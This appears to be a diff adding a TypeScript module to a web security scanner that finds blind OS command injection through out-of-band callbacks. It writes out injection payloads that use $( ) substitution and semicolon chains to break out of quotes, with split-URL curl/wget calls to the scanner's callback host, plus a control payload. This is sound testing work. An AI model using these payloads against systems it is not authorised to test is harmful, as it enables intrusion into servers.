@@ -1,0 +1,155 @@
+import type { Observation } from '../../../model/check.ts'
+import type { CallbackUrl, ProbeContext } from '../../../model/probe.ts'
+import { callbackSteps } from '../../../report/evidence/callbackSteps.ts'
+import { nameParameter, observeProbe, placeOf } from '../../../report/evidence/observeProbe.ts'
+import type { InsertionPoint } from '../_shared/insertionPoints.ts'
+import { type Attempt, requestWith } from '../_shared/requestAt.ts'
+
+/** Points that are tried: each takes callback URLs, of which a scan has 400. */
+const pointsMax = 150
+/** Of those by themselves, where the request with all of them was refused. */
+const aloneMax = 20
+/** All together get this long after the last was sent; what has called within that is not waited for as long again. */
+const waitMsMax = 5_000
+const waitAgainMsMax = 2_000
+const waitStepMs = 250
+
+/** A way to have a shell request a URL. */
+type CallPayload = {
+  readonly name: string
+  readonly write: (value: string, call: string) => string
+}
+
+const substitution: CallPayload = {
+  name: 'command substitution with $( )',
+  write: (value, call) => `${value}$(${call})'$(${call})'`,
+}
+/** Both at once: outside of quotes, in single and in double quotes one of them runs. */
+const anyWay: CallPayload = {
+  name: 'command substitution with $( ), and a semicolon',
+  write: (value, call) => `${substitution.write(value, call)};${call} #';${call} #";${call} #`,
+}
+
+/** The URL is none before a shell has put it together: whoever fetches what looks like one does not fetch this. */
+function callOf({ url }: CallbackUrl): string {
+  const rest = url.replace(/^http:/, '')
+  return `u=http:;(curl -sm4 $u${rest}||wget -qT4 -O- $u${rest})>/dev/null 2>&1`
+}
+
+type Context = Pick<ProbeContext, 'send' | 'accounts' | 'left' | 'callbacks' | 'wait' | 'looks'>
+
+/** A parameter that a shell executes, and how that was seen. */
+export type BlindCommand = { readonly point: InsertionPoint; readonly observation: Observation }
+
+type Called = {
+  readonly point: InsertionPoint
+  /** All that were tried in the same request. */
+  readonly beside: readonly InsertionPoint[]
+  readonly payload: CallPayload
+  readonly asked: Attempt
+  readonly url: CallbackUrl
+}
+
+/**
+ * Finds parameters that a shell executes although the response shows nothing of it: it requests a URL of the scan, twice,
+ * and the same words without the syntax of a shell do not make it. None where the target cannot call back.
+ *
+ * All parameters of a request are tried together, each with a URL of its own; the likely ones also by themselves where
+ * that request was refused.
+ */
+export async function findBlindCommands(
+  context: Context,
+  points: readonly InsertionPoint[],
+  isLikely: (point: InsertionPoint) => boolean,
+): Promise<readonly BlindCommand[]> {
+  const tried = points.slice(0, pointsMax)
+  const groups = [...new Set(tried.map(({ entry }) => entry))].map((entry) =>
+    tried.filter((point) => point.entry === entry),
+  )
+  const together: Called[] = []
+  for (const group of groups) together.push(...(await send(context, group, anyWay)))
+  const alone = together.filter((one) => isLikely(one.point) && isRefused(context, one))
+  for (const { point } of alone.slice(0, aloneMax))
+    together.push(...(await send(context, [point], substitution)))
+  const called = await waitFor(context, together, waitMsMax)
+  const first = called.filter(({ point }, index) => called.findIndex((one) => one.point === point) === index)
+  const controls = await callAgain(
+    context,
+    first.map(({ point }) => ({ point, payload: control })),
+  )
+  const suspects = first.filter(({ point }) => !controls.some((one) => one.point === point))
+  const again = await callAgain(context, suspects)
+  return again.map((one) => ({ point: one.point, observation: observe(one) }))
+}
+
+/** Where looks have shown that every value gets such a response, it is none to what was sent. */
+function isRefused({ looks }: Context, { asked, beside }: Called): boolean {
+  return asked.exchange.status >= 400 && beside.some(mayMatter)
+
+  function mayMatter({ entry, parameter }: InsertionPoint): boolean {
+    const look = looks.of(entry, parameter)
+    return look === null || look.matters || look.breaks
+  }
+}
+
+const control: CallPayload = {
+  name: 'none',
+  write: (value, call) => `${value} ${call.replaceAll(/[;()]/g, ' ')}`,
+}
+
+/** Sends each by itself with a URL of its own, and gives those whose URL was requested. */
+async function callAgain(
+  context: Context,
+  tries: readonly Pick<Called, 'point' | 'payload'>[],
+): Promise<readonly Called[]> {
+  const sent: Called[] = []
+  for (const { point, payload } of tries) sent.push(...(await send(context, [point], payload)))
+  return await waitFor(context, sent, waitAgainMsMax)
+}
+
+/** Puts a URL of its own into each of these parameters of one request. */
+async function send(
+  context: Context,
+  points: readonly InsertionPoint[],
+  payload: CallPayload,
+): Promise<readonly Called[]> {
+  const [first] = points
+  if (first === undefined || context.callbacks === null || context.left() === 0) return []
+  const values: { readonly point: InsertionPoint; readonly url: CallbackUrl; readonly value: string }[] = []
+  for (const point of points) {
+    const url = await context.callbacks.open()
+    values.push({ point, url, value: payload.write(point.parameter.value, callOf(url)) })
+  }
+  const asked = await requestWith(
+    context,
+    first.entry,
+    values.map(({ point: { parameter }, value }) => ({ parameter, value })),
+  )
+  return asked === null
+    ? []
+    : values.map(({ point, url }) => ({ point, beside: points, payload, asked, url }))
+}
+
+async function waitFor(context: Context, sent: readonly Called[], msMax: number): Promise<readonly Called[]> {
+  for (let waitedMs = 0; waitedMs < msMax && sent.length > 0; waitedMs += waitStepMs) {
+    if (sent.every(({ url }) => url.wasCalled())) break
+    await context.wait(waitStepMs)
+  }
+  return sent.filter(({ url }) => url.wasCalled())
+}
+
+function observe({ point: { entry, parameter }, payload, asked, url }: Called): Observation {
+  return observeProbe(asked.request, asked.exchange, {
+    sample: nameParameter(entry, parameter),
+    place: placeOf(entry, parameter),
+    shows: null,
+    steps: callbackSteps({ ...asked, url: url.url }),
+    details: {
+      parameter: parameter.name,
+      written_with: payload.name,
+      called: url.url,
+      proof:
+        'The server requested this callback URL, and another one before; the same words without shell syntax did not',
+    },
+  })
+}
